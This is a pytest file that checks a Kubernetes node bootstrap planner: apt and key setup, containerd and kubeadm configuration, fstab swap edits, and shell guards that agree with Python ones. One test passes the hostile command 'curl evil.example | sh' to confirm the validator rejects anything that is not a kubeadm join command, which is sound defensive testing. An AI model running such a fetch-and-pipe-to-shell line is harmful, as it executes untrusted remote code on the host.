"""The node bootstrap as data: the exact command sequences, the guards read two ways (facts and
shell) agreeing, and the sed edits on real sample files. bootstrap-node.sh: test_bootstrap_script.py."""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import replace

import pytest

from wizard import bootstrap as b
from wizard.host import ADMIN_CONF, HostFacts
from wizard.kubeadmconfig import kubeadm_config
from wizard.yamlio import loads_all

SWAPS_HEADER = "Filename\t\t\t\tType\t\tSize\t\tUsed\t\tPriority\n"
FSTAB = "UUID=0a1b / ext4 errors=remount-ro 0 1\n/swap.img\tnone\tswap\tsw\t0\t0\n"
K8S_KEYRING = "/etc/apt/keyrings/kubernetes-apt-keyring.gpg"
K8S_LIST = "/etc/apt/sources.list.d/kubernetes.list"
KUBECTL = ["kubectl", "--kubeconfig=/etc/kubernetes/admin.conf"]

CONTAINERD_22 = "containerd containerd.io 2.2.1 dea7da592f5d1d2b7755e3a161be07f43fad8f75"
CONTAINERD_2X_CONFIG = f"version = 3\n{b.CONTAINERD_RUNC_OPTIONS}\n  SystemdCgroup = true\n"
DOCKER_KEY_DOWNLOAD = "/etc/apt/keyrings/docker.asc.download"
KUBEADM_CONFIG = "/etc/kubernetes/binderhub-wizard/kubeadm-config.yaml"

FRESH = HostFacts(
    swaps=SWAPS_HEADER + "/swap.img                               file\t\t4194300\t\t0\t\t-2\n",
    public_ip="203.0.113.10", user="alice", home="/home/alice",
    files={"/etc/fstab": FSTAB, "/proc/sys/net/ipv4/ip_forward": "0\n"},
)
INITIALISED = replace(
    FRESH, swaps=SWAPS_HEADER, initialised=True, node_taints=frozenset(), containerd_version=CONTAINERD_22,
    commands=frozenset({"curl", "gpg", "containerd", "kubelet", "kubeadm", "kubectl", "helm"}),
    files={
        "/etc/fstab": FSTAB.replace("/swap.img", "# /swap.img"), b.FSTAB_BACKUP: FSTAB,
        b.CONTAINERD_CONFIG: CONTAINERD_2X_CONFIG,
        b.MODULES_CONF: b.MODULES, b.SYSCTL_CONF: b.SYSCTLS,
        "/proc/sys/net/bridge/bridge-nf-call-iptables": "1\n", "/proc/sys/net/ipv4/ip_forward": "1\n",
        K8S_KEYRING: "(binary)", K8S_LIST: b.kubernetes_source(b.KUBERNETES_MINOR),
        ADMIN_CONF: "apiVersion: v1\nkind: Config\n", "/home/alice/.kube/config": "apiVersion: v1\nkind: Config\n",
    },
)

FRESH_SEQUENCE = [
    ("apt-prerequisites", ["apt-get", "update"]),
    ("apt-prerequisites", ["apt-get", "install", "-y", "ca-certificates", "curl", "gpg"]),
    ("containerd", ["install", "-d", "-m", "0755", "/etc/apt/keyrings"]),
    ("containerd", ["curl", "-fsSL", "-o", DOCKER_KEY_DOWNLOAD, "https://download.docker.com/linux/debian/gpg"]),
    ("containerd", ["sh", "-c", f"gpg --batch --show-keys --with-colons {DOCKER_KEY_DOWNLOAD} | grep -qx "
                    "'fpr:::::::::9DC858229FC7DD38854AE2D88D81803C0EBFCD88:' || { echo 'the key downloaded from "
                    "https://download.docker.com/linux/debian/gpg does not carry the fingerprint "
                    "9DC858229FC7DD38854AE2D88D81803C0EBFCD88 of the Docker release key' >&2; exit 1; }"]),
    ("containerd", ["install", "-m", "0644", DOCKER_KEY_DOWNLOAD, "/etc/apt/keyrings/docker.asc"]),
    ("containerd", ["rm", "-f", DOCKER_KEY_DOWNLOAD]),
    ("containerd", ["tee", "/etc/apt/sources.list.d/docker.list"]),
    ("containerd", ["apt-get", "update"]),
    ("containerd", ["apt-get", "install", "-y", "containerd.io"]),
    ("containerd-config", ["install", "-d", "-m", "0755", "/etc/containerd"]),
    ("containerd-config", ["sh", "-c", "containerd config default > /etc/containerd/config.toml"]),
    ("containerd-config", ["sed", "-i", "-E", "-e", b.SYSTEMD_CGROUP_SED, "/etc/containerd/config.toml"]),
    ("containerd-config", ["systemctl", "restart", "containerd"]),
    ("containerd-config", ["systemctl", "enable", "containerd"]),
    ("kernel", ["tee", "/etc/modules-load.d/k8s.conf"]),
    ("kernel", ["modprobe", "overlay"]),
    ("kernel", ["modprobe", "br_netfilter"]),
    ("kernel", ["tee", "/etc/sysctl.d/k8s.conf"]),
    ("kernel", ["sysctl", "--system"]),
    ("swap-off", ["swapoff", "-a"]),
    ("swap-fstab", ["cp", "-p", "/etc/fstab", "/etc/fstab.binderhub-wizard.bak"]),
    ("swap-fstab", ["sed", "-i", "-E", "-e", b.FSTAB_SWAP_SED, "/etc/fstab"]),
    ("kubernetes-repository", ["install", "-d", "-m", "0755", "/etc/apt/keyrings"]),
    ("kubernetes-repository", ["curl", "-fsSL", "-o", "/etc/apt/keyrings/kubernetes-apt-keyring.asc",
                               "https://pkgs.k8s.io/core:/stable:/v1.37/deb/Release.key"]),
    ("kubernetes-repository", ["gpg", "--batch", "--yes", "--dearmor", "-o", K8S_KEYRING,
                               "/etc/apt/keyrings/kubernetes-apt-keyring.asc"]),
    ("kubernetes-repository", ["rm", "-f", "/etc/apt/keyrings/kubernetes-apt-keyring.asc"]),
    ("kubernetes-repository", ["tee", K8S_LIST]),
    ("kubernetes-repository", ["apt-get", "update"]),
    ("kubernetes-packages", ["apt-get", "install", "-y", "kubelet", "kubeadm", "kubectl"]),
    ("kubernetes-hold", ["apt-mark", "hold", "kubelet", "kubeadm", "kubectl"]),
    ("kubernetes-hold", ["systemctl", "enable", "--now", "kubelet"]),
    ("helm", ["install", "-d", "-m", "0755", "/etc/apt/keyrings"]),
    ("helm", ["curl", "-fsSL", "-o", "/etc/apt/keyrings/helm.asc",
              "https://packages.buildkite.com/helm-linux/helm-debian/gpgkey"]),
    ("helm", ["gpg", "--batch", "--yes", "--dearmor", "-o", "/etc/apt/keyrings/helm.gpg", "/etc/apt/keyrings/helm.asc"]),
    ("helm", ["rm", "-f", "/etc/apt/keyrings/helm.asc"]),
    ("helm", ["tee", "/etc/apt/sources.list.d/helm-stable-debian.list"]),
    ("helm", ["apt-get", "update"]),
    ("helm", ["apt-get", "install", "-y", "helm"]),
    ("kubeadm-config", ["install", "-d", "-m", "0755", "/etc/kubernetes/binderhub-wizard"]),
    ("kubeadm-config", ["tee", KUBEADM_CONFIG]),
    ("kubeadm-init", ["kubeadm", "init", f"--config={KUBEADM_CONFIG}"]),
    ("kubeconfig", ["install", "-d", "-m", "0700", "/home/alice/.kube"]),
    ("kubeconfig", ["cp", "/etc/kubernetes/admin.conf", "/home/alice/.kube/config"]),
    ("kubeconfig", ["chmod", "0600", "/home/alice/.kube/config"]),
    ("kubeconfig", ["chown", "alice:", "/home/alice/.kube", "/home/alice/.kube/config"]),
    ("untaint", [*KUBECTL, "taint", "nodes", "--all", "node-role.kubernetes.io/control-plane-"]),
    ("flannel", [*KUBECTL, "apply", "-f",
                 "https://github.com/flannel-io/flannel/releases/download/v0.28.9/kube-flannel.yml"]),
    ("node-ready", [*KUBECTL, "-n", "kube-flannel", "rollout", "status", "daemonset/kube-flannel-ds", "--timeout=5m"]),
    ("node-ready", [*KUBECTL, "wait", "--for=condition=Ready", "nodes", "--all", "--timeout=5m"]),
    ("node-ready", [*KUBECTL, "-n", "kube-system", "rollout", "status", "deployment/coredns", "--timeout=5m"]),
]


def test_the_exact_sequence_on_a_fresh_machine():
    assert b.bootstrap_commands(FRESH) == FRESH_SEQUENCE


def test_files_are_written_with_their_content():
    written = {c.argv[1]: c.stdin for _, cs in b.plan(FRESH) for c in cs if c.argv[0] == "tee"}
    assert written["/etc/modules-load.d/k8s.conf"] == "overlay\nbr_netfilter\n"
    assert written["/etc/sysctl.d/k8s.conf"] == ("net.bridge.bridge-nf-call-iptables = 1\n"
                                                 "net.bridge.bridge-nf-call-ip6tables = 1\nnet.ipv4.ip_forward = 1\n")
    assert written[K8S_LIST] == ("deb [signed-by=/etc/apt/keyrings/kubernetes-apt-keyring.gpg] "
                                 "https://pkgs.k8s.io/core:/stable:/v1.37/deb/ /\n")
    assert written["/etc/apt/sources.list.d/helm-stable-debian.list"] == (
        "deb [signed-by=/etc/apt/keyrings/helm.gpg] https://packages.buildkite.com/helm-linux/helm-debian/any/ any main\n")
    assert written["/etc/apt/sources.list.d/docker.list"] == (
        "deb [signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/debian trixie stable\n")
    # The public IP is on this machine (FRESH's addresses): kubeadm advertises it and signs it.
    assert written[KUBEADM_CONFIG] == kubeadm_config("v1.37.2", "10.244.0.0/16", "203.0.113.10", "203.0.113.10")


@pytest.mark.parametrize("os_release, repository", [
    ('ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n', "debian bookworm"),
    ('ID=ubuntu\nVERSION_ID="24.04"\nVERSION_CODENAME=noble\nUBUNTU_CODENAME=noble\n', "ubuntu noble"),
    ('ID=ubuntu\nVERSION_ID="26.04"\nVERSION_CODENAME=resolute\nUBUNTU_CODENAME=resolute\n', "ubuntu resolute"),
])
def test_dockers_repository_follows_the_system(os_release, repository):
    os_id, codename = repository.split()
    commands = [c for step, cs in b.plan(replace(FRESH, os_release=os_release)) if step.name == "containerd" for c in cs]
    assert commands[1].argv[-1] == f"https://download.docker.com/linux/{os_id}/gpg"
    source = next(c.stdin for c in commands if c.argv[0] == "tee")
    assert source == f"deb [signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/{os_id} {codename} stable\n"


def test_behind_nat_kubeadm_picks_the_address_itself():
    """The public IP is not on the machine (1:1 NAT): advertising it would make etcd and the API
    server bind an address the machine lacks, so the file leaves advertiseAddress out."""
    nat = replace(FRESH, addresses=("127.0.0.1", "10.0.0.5"))
    written = {c.argv[1]: c.stdin for _, cs in b.plan(nat) for c in cs if c.argv[0] == "tee"}
    assert written[KUBEADM_CONFIG] == kubeadm_config("v1.37.2", "10.244.0.0/16", "203.0.113.10", None)
    documents = {doc["kind"]: doc for doc in loads_all(written[KUBEADM_CONFIG])}
    assert "advertiseAddress" not in written[KUBEADM_CONFIG]
    assert "203.0.113.10" in documents["ClusterConfiguration"]["apiServer"]["certSANs"]


def test_a_rerun_on_an_initialised_node_skips_init_and_leaves_fstab_alone():
    sequence = b.bootstrap_commands(INITIALISED)
    assert sequence == [
        ("kubernetes-hold", ["apt-mark", "hold", "kubelet", "kubeadm", "kubectl"]),
        ("kubernetes-hold", ["systemctl", "enable", "--now", "kubelet"]),
        *[entry for entry in FRESH_SEQUENCE if entry[0] in ("flannel", "node-ready")],
    ]
    # The kubeadm configuration is not rewritten under a cluster made with it, even if it is gone.
    assert "kubeadm-config" not in {name for name, _ in b.bootstrap_commands(replace(INITIALISED, public_ip="198.51.100.7"))}


def test_a_node_with_containerd_1x_gets_containerd_2_and_a_2x_config():
    """The upgrade path of a machine set up with the distribution's containerd (1.7, config
    version 2): containerd.io replaces it, the config is rewritten in the 2.x layout and the 1.x
    file kept once; nothing else changes."""
    old = replace(INITIALISED, containerd_version="containerd github.com/containerd/containerd 1.7.24~ds1 1.7.24~ds1-6",
                  files={**INITIALISED.files, b.CONTAINERD_CONFIG: CONTAINERD_17.replace("SystemdCgroup = false",
                                                                                         "SystemdCgroup = true")})
    sequence = b.bootstrap_commands(old)
    fresh_runtime = [e for e in FRESH_SEQUENCE if e[0] in ("containerd", "containerd-config")]
    backup = ("containerd-config", ["cp", "-p", b.CONTAINERD_CONFIG, b.CONTAINERD_CONFIG + ".binderhub-wizard.bak"])
    assert sequence == [*fresh_runtime[:8], backup, *fresh_runtime[8:], *b.bootstrap_commands(INITIALISED)]


def test_fstab_is_backed_up_once():
    half_done = replace(FRESH, files={**FRESH.files, b.FSTAB_BACKUP: FSTAB})
    fstab = [argv for name, argv in b.bootstrap_commands(half_done) if name == "swap-fstab"]
    assert fstab == [["sed", "-i", "-E", "-e", b.FSTAB_SWAP_SED, "/etc/fstab"]]


def test_swap_off_in_fstab_even_when_none_is_active_now():
    names = [n for n, _ in b.bootstrap_commands(replace(FRESH, swaps=SWAPS_HEADER))]
    assert "swap-off" not in names and "swap-fstab" in names


def test_an_existing_kubeconfig_is_kept_aside_before_it_is_replaced():
    other = replace(FRESH, files={**FRESH.files, "/home/alice/.kube/config": "another cluster"})
    kubeconfig = [argv for name, argv in b.bootstrap_commands(other) if name == "kubeconfig"]
    assert kubeconfig[0] == ["cp", "-p", "/home/alice/.kube/config", "/home/alice/.kube/config.binderhub-wizard.bak"]
    titles = {step.name: step.title for step, _ in b.plan(other)}
    assert titles["kubeconfig"] == "kubectl for alice (/home/alice/.kube/config)"


def test_a_worker_gets_the_host_steps_and_then_joins():
    names = [s.name for s in b.join_command_steps()]
    assert names == [s.name for s in b.host_steps()]
    assert not {"kubeadm-init", "untaint", "flannel", "helm"} & set(names)
    printed = "kubeadm join 10.0.0.5:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:00ff\n"
    joined = b.join_command_steps(printed)
    assert joined[-1].name == "kubeadm-join"
    assert b.bootstrap_commands(FRESH, joined)[-1] == ("kubeadm-join", printed.split())
    assert b.bootstrap_commands(replace(FRESH, files={b.KUBELET_CONF: "x"}), joined)[-1][0] == "kubernetes-hold"
    assert b.PRINT_JOIN_COMMAND == ("kubeadm", "token", "create", "--print-join-command")
    with pytest.raises(ValueError, match="not a kubeadm join command"):
        b.join_command_steps("curl evil.example | sh")


def test_the_facts_to_read_are_the_ones_the_guards_look_at():
    paths = b.needed_paths(b.node_steps())
    assert {"/etc/fstab", ADMIN_CONF, "{home}/.kube/config", b.CONTAINERD_CONFIG, K8S_LIST, KUBEADM_CONFIG} <= set(paths)
    assert {"containerd", "kubeadm", "helm", "kubectl"} <= set(b.needed_tools(b.node_steps()))


# --- the guards: the shell reading and the facts reading agree ----------------------------------

def _shell_holds(guard: b.Guard, env: dict | None = None, replace_paths: dict | None = None) -> bool:
    text = guard.shell()
    for old, new in (replace_paths or {}).items():
        text = text.replace(old, new)
    run = subprocess.run(["bash", "-c", f'kube_home="$HOME_UNDER_TEST"; if {text}; then exit 0; else exit 1; fi'],
                         env={"PATH": "/usr/bin:/bin", **(env or {})}, capture_output=True, text=True)
    assert run.returncode in (0, 1), run.stderr
    return run.returncode == 0


def test_file_guards_agree(tmp_path):
    present, same, other = tmp_path / "present", tmp_path / "same", tmp_path / "other"
    present.write_text("overlay\nbr_netfilter\n")
    same.write_text("overlay\nbr_netfilter\n")
    other.write_text("overlay\n")
    (tmp_path / ".kube").mkdir()
    (tmp_path / ".kube/config").write_text("overlay\nbr_netfilter\n")
    facts = HostFacts(home=str(tmp_path), files={str(p): p.read_text() for p in (present, same, other)}
                      | {str(tmp_path / ".kube/config"): "overlay\nbr_netfilter\n", str(tmp_path / "missing"): None})
    guards = [
        b.Exists(str(present)), b.Exists(str(tmp_path / "missing")), b.Exists("{home}/.kube/config"),
        b.Contains(str(present), "br_netfilter"), b.Contains(str(other), "br_netfilter"),
        b.Contains(str(tmp_path / "missing"), "x"),
        b.Matches(str(present), "overlay\nbr_netfilter\n"), b.Matches(str(present), "overlay\n"),
        b.Matches(str(other), "overlay"), b.Matches(str(tmp_path / "missing"), "x"),
        b.SameFile(str(present), str(same)), b.SameFile(str(present), str(other)),
        b.SameFile(str(tmp_path / "missing"), str(tmp_path / "missing")),
        b.SameFile(str(present), "{home}/.kube/config"),
        b.Not(b.Exists(str(present))), b.All(b.Exists(str(present)), b.Not(b.Exists(str(tmp_path / "missing")))),
    ]
    for guard in guards:
        assert guard.holds(facts) == _shell_holds(guard, {"HOME_UNDER_TEST": str(tmp_path)}), guard


@pytest.mark.parametrize("swaps, active", [
    (SWAPS_HEADER, False),
    (SWAPS_HEADER + "/dev/zram0 partition 8388604 0 100\n", True),
])
def test_swap_guard_agrees(tmp_path, swaps, active):
    (tmp_path / "swaps").write_text(swaps)
    guard = b.SwapActive()
    assert guard.holds(HostFacts(swaps=swaps)) is active
    assert _shell_holds(guard, replace_paths={"/proc/swaps": str(tmp_path / "swaps")}) is active


FSTAB_SAMPLE = """# /etc/fstab: static file system information.
UUID=0a1b / ext4 errors=remount-ro 0 1
/swap.img\tnone\tswap\tsw\t0\t0
  UUID=77cc none swap sw 0 0
#/dev/sdb1 none swap sw 0 0
/dev/sdc1 /srv/swapfiles ext4 defaults 0 2
/dev/sdd1 none swapish sw 0 0
"""


def test_fstab_edit_comments_out_exactly_the_lines_the_guard_finds(tmp_path):
    fstab = tmp_path / "fstab"
    fstab.write_text(FSTAB_SAMPLE)
    guard, shell_paths = b.FstabSwap(), {"/etc/fstab": str(fstab)}
    assert b.fstab_swap_lines(FSTAB_SAMPLE) == ["/swap.img\tnone\tswap\tsw\t0\t0", "  UUID=77cc none swap sw 0 0"]
    assert _shell_holds(guard, replace_paths=shell_paths)
    subprocess.run(["sed", "-i", "-E", "-e", b.FSTAB_SWAP_SED, str(fstab)], check=True)
    edited = fstab.read_text()
    assert edited.splitlines() == [
        "# /etc/fstab: static file system information.", "UUID=0a1b / ext4 errors=remount-ro 0 1",
        "# /swap.img\tnone\tswap\tsw\t0\t0", "#   UUID=77cc none swap sw 0 0", "#/dev/sdb1 none swap sw 0 0",
        "/dev/sdc1 /srv/swapfiles ext4 defaults 0 2", "/dev/sdd1 none swapish sw 0 0"]
    assert b.fstab_swap_lines(edited) == [] and not _shell_holds(guard, replace_paths=shell_paths)
    subprocess.run(["sed", "-i", "-E", "-e", b.FSTAB_SWAP_SED, str(fstab)], check=True)
    assert fstab.read_text() == edited


CONTAINERD_17 = """version = 2
[plugins]
  [plugins."io.containerd.grpc.v1.cri"]
    [plugins."io.containerd.grpc.v1.cri".containerd]
      [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc]
        runtime_type = "io.containerd.runc.v2"
        [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]
          BinaryName = ""
          SystemdCgroup = false
"""
# containerd 2.0/2.1 before the fix for containerd/containerd#12101 print no SystemdCgroup key.
CONTAINERD_20 = """version = 3
[plugins]
  [plugins.'io.containerd.cri.v1.runtime']
    [plugins.'io.containerd.cri.v1.runtime'.containerd.runtimes.runc]
      runtime_type = 'io.containerd.runc.v2'
      [plugins.'io.containerd.cri.v1.runtime'.containerd.runtimes.runc.options]
        BinaryName = ''
        ShimCgroup = ''
"""


# An excerpt of what the real containerd v2.4.2 prints for `containerd config default` (config
# version 4 since containerd 2.3; test_containerd_config.py runs the binary itself).
CONTAINERD_24 = """version = 4
[plugins]
  [plugins.'io.containerd.cri.v1.runtime']
    [plugins.'io.containerd.cri.v1.runtime'.containerd]
      default_runtime_name = 'runc'

      [plugins.'io.containerd.cri.v1.runtime'.containerd.runtimes]
        [plugins.'io.containerd.cri.v1.runtime'.containerd.runtimes.runc]
          runtime_type = 'io.containerd.runc.v2'
          sandboxer = 'podsandbox'
          io_type = ''

          [plugins.'io.containerd.cri.v1.runtime'.containerd.runtimes.runc.options]
            BinaryName = ''
            Root = ''
            ShimCgroup = ''
            SystemdCgroup = false

    [plugins.'io.containerd.cri.v1.runtime'.cni]
      bin_dirs = ['/opt/cni/bin']
"""


def _step(name: str) -> b.Step:
    return next(step for step in b.node_steps("203.0.113.10") if step.name == name)


@pytest.mark.parametrize("config, layout_2x", [(CONTAINERD_17, False), (CONTAINERD_20, True), (CONTAINERD_24, True)])
def test_containerd_gets_the_systemd_cgroup_driver(tmp_path, config, layout_2x):
    """The sed sets SystemdCgroup under the runc options in every layout; the step counts as done
    only in the 2.x layout (config version 3 or 4), so a 1.x file is regenerated by containerd 2."""
    path = tmp_path / "config.toml"
    path.write_text(config)
    subprocess.run(["sed", "-i", "-E", "-e", b.SYSTEMD_CGROUP_SED, str(path)], check=True)
    lines = path.read_text().splitlines()
    header = next(i for i, line in enumerate(lines) if line.strip().endswith(".runtimes.runc.options]"))
    assert lines[header + 1].strip() == "SystemdCgroup = true"
    assert sum("SystemdCgroup" in line for line in lines) == 1
    done = _step("containerd-config").done
    assert done.holds(HostFacts(files={b.CONTAINERD_CONFIG: path.read_text()})) is layout_2x
    assert _shell_holds(done, replace_paths={b.CONTAINERD_CONFIG: str(path)}) is layout_2x


@pytest.mark.parametrize("printed, new_enough", [
    ("containerd github.com/containerd/containerd/v2 v2.4.2 2c5a8c4b0f5c5e7e", True),      # upstream release
    (CONTAINERD_22, True),                                                                   # Docker's containerd.io
    ("containerd github.com/containerd/containerd/v2 2.2.2 2.2.2-0ubuntu1", True),            # Ubuntu 26.04
    ("containerd github.com/containerd/containerd 1.7.24~ds1 1.7.24~ds1-6+b4", False),       # Debian 13
    ("containerd github.com/containerd/containerd 1.6.20~ds1 1.6.20~ds1-1+deb12u3", False),  # Debian 12
    ("containerd github.com/containerd/containerd 10.1.0 x", True),
    ("", False),                                                                             # prints nothing
    (None, False),                                                                           # not installed
])
def test_containerd_version_guard_agrees(tmp_path, printed, new_enough):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "awk").symlink_to(shutil.which("awk"))
    if printed is not None:
        fake = bin_dir / "containerd"
        fake.write_text(f"#!/bin/sh\nprintf '%s\\n' '{printed}'\n")
        fake.chmod(0o755)
    guard = b.ContainerdAtLeast(2)
    assert guard.holds(HostFacts(containerd_version=printed)) is new_enough
    run = subprocess.run([shutil.which("bash"), "-c", f"set -o pipefail; if {guard.shell()}; then exit 0; else exit 1; fi"],
                         env={"PATH": str(bin_dir)}, capture_output=True, text=True)
    assert run.returncode == (0 if new_enough else 1), run.stderr


# kubectl, with a kubeadm node's admin.conf swapped for the test cluster's kubeconfig (nothing else changed).
KUBECTL_SHIM = """#!/bin/sh
for arg; do
  shift
  case "$arg" in --kubeconfig=/etc/kubernetes/admin.conf) set -- "$@" "--kubeconfig={kubeconfig}" ;; *) set -- "$@" "$arg" ;; esac
done
exec "{real}" "$@"
"""


@pytest.mark.parametrize("taints, untainted", [
    (["node-role.kubernetes.io/control-plane"], False),
    (["node.kubernetes.io/not-ready", "node-role.kubernetes.io/control-plane"], False),
    ([], True),
    (["node-role.kubernetes.io/control-plane-extra"], True),
    (None, False),          # the cluster does not answer: try to untaint, and fail loudly
])
def test_untaint_guard_agrees(tmp_path, monkeypatch, request, real_kube_without_nodes, taints, untainted):
    """The host reader (hostread) and the shell guard of bootstrap-node.sh both ask the real kubectl
    for the nodes' taint keys (its jsonpath over real Node objects, on an API server holding only
    this test's node), and agree with Untainted.holds. Only the kubeconfig path is the test's; what
    the kubelet would post for the node is written by standins.register_node."""
    from kubernetes import client

    from tests.realkube import standins
    from wizard import hostread

    kubeconfig = real_kube_without_nodes.kubeconfig
    if taints is None:
        proxy = request.getfixturevalue("fault_proxy")
        proxy.stop()  # an API that does not answer
        kubeconfig = proxy.kubeconfig
    else:
        standins.register_node(real_kube_without_nodes.api, "control-plane-1",
                               taints=[{"key": key, "effect": "NoSchedule"} for key in taints])
        request.addfinalizer(lambda: client.CoreV1Api(real_kube_without_nodes.api).delete_node("control-plane-1"))
    shim = tmp_path / "bin" / "kubectl"
    shim.parent.mkdir()
    shim.write_text(KUBECTL_SHIM.replace("{kubeconfig}", str(kubeconfig)).replace("{real}", shutil.which("kubectl")))
    shim.chmod(0o755)
    # kubectl's discovery cache goes under the test's directory, not $HOME (or the working directory without HOME).
    env = {"PATH": f"{shim.parent}:/usr/bin:/bin", "HOME": str(tmp_path), "KUBECACHEDIR": str(tmp_path / "kube-cache")}
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    read = hostread._node_taints(frozenset({"kubectl"}))
    # The real API server's TaintNodesByCondition admission adds not-ready to a node as it registers
    # (the node lifecycle controller, which does not run here, removes it once the node is Ready).
    assert read == (None if taints is None else frozenset(taints) | {"node.kubernetes.io/not-ready"})
    guard = b.Untainted("node-role.kubernetes.io/control-plane")
    assert guard.holds(HostFacts(node_taints=read)) is untainted
    run = subprocess.run(["bash", "-c", f"if {guard.shell()}; then exit 0; else exit 1; fi"],
                         env=env, capture_output=True, text=True, timeout=60)
    assert (run.returncode == 0) is untainted, run.stderr


def test_placeholders_become_quoted_shell_variables():
    assert b.word("{home}/.kube/config") == '"${kube_home}"/.kube/config'
    assert b.word("{user}:") == '"${kube_user}":'
    assert b.word("it's {home}") == "'it'\"'\"'s '\"${kube_home}\""
    assert b.word("") == "''"
